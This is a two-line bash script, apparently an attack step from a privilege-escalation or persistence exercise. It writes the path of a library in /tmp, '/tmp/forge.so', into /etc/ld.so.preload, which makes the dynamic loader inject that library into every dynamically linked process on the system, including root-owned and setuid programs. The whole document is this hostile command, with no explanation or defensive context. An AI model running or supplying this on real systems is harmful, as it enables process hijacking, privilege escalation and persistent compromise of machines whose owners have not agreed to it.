#!/bin/bash
echo /tmp/forge.so > /etc/ld.so.preload
